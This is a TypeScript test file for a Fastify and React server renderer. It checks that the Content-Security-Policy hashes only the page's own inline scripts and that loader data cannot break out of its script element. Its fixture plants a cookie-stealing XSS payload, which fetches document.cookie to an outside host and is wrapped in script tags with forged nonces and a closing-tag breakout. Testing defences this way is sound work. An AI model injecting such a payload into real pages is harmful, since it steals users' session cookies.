import { createHash } from "node:crypto";
import Fastify, { type FastifyInstance } from "fastify";
import { createElement } from "react";
import { afterAll, beforeAll, expect, test } from "vitest";
import { registerTestPages } from "#server/testing/test-pages.ts";
import * as entry from "#web/entry.server.tsx";
import * as root from "#web/root.tsx";

const planted = "fetch('https://elsewhere.example/?'+document.cookie)";
const hostile = `<p>Text</p><script>${planted}</script><script nonce="">${planted}</script><script nonce="guess">${planted}</script>`;

/** A screen whose text nobody has cleaned, in the real root and by the real renderer. */
const screen = {
  loader: () => ({ hostile: `</script>${hostile}` }),
  // biome-ignore lint/security/noDangerouslySetInnerHtml: that is what is tested
  default: () => createElement("div", { dangerouslySetInnerHTML: { __html: hostile } }),
};

const getPaymentConfig = async () => ({ publishableKey: "", stripeJsUrl: "" });

let app: FastifyInstance;
beforeAll(async () => {
  app = Fastify();
  const calls = { listCategoryPremiums: async () => ({ data: [] }), getPaymentConfig };
  await registerTestPages(app, { entry, root, screen, calls });
});
afterAll(() => app.close());

const hashOf = (script: string) => `'sha256-${createHash("sha256").update(script).digest("base64")}'`;

test("the policy lets through the page's own inline scripts and none that was planted in it", async () => {
  const { statusCode, body, headers } = await app.inject("/x");
  expect(statusCode).toBe(200);
  const policy = String(headers["content-security-policy"]);
  const inline = [...body.matchAll(/<script(?![^>]*(?: src=|"application\/json"))[^>]*>([\s\S]*?)<\/script>/g)].map(
    ([, code = ""]) => code,
  );
  const [foreign, own] = [inline.filter((code) => code === planted), inline.filter((code) => code !== planted)];
  // Theme, context, handing over of the loaders' data, scroll position and the module that starts all.
  expect([foreign.length, own.length >= 4]).toEqual([3, true]);
  for (const code of own) expect(policy, code.slice(0, 60)).toContain(hashOf(code));
  expect(policy).not.toContain(hashOf(planted));
  const scriptSource = policy.split("; ").find((directive) => directive.startsWith("script-src ")) ?? "";
  expect(scriptSource.match(/'sha256-/g)).toHaveLength(new Set(own).size);
});

test("what loaders tell cannot end the element that it stands in", async () => {
  const { body } = await app.inject("/x");
  const [, data = ""] = /<script type="application\/json">([\s\S]*?)<\/script>/.exec(body) ?? [];
  expect(JSON.parse(data).loaderData.any).toEqual({ hostile: `</script>${hostile}` });
});

test("what is written apart and put together is in no answer: the same page has the same bytes and tag", async () => {
  const [first, second] = [await app.inject("/x"), await app.inject("/x")];
  expect(first.body).toBe(second.body);
  expect(first.headers).toMatchObject({
    etag: second.headers.etag,
    "content-security-policy": second.headers["content-security-policy"],
  });
  expect(first.body).not.toMatch(/[0-9a-f]{8}-[0-9a-f]{4}-/);
});
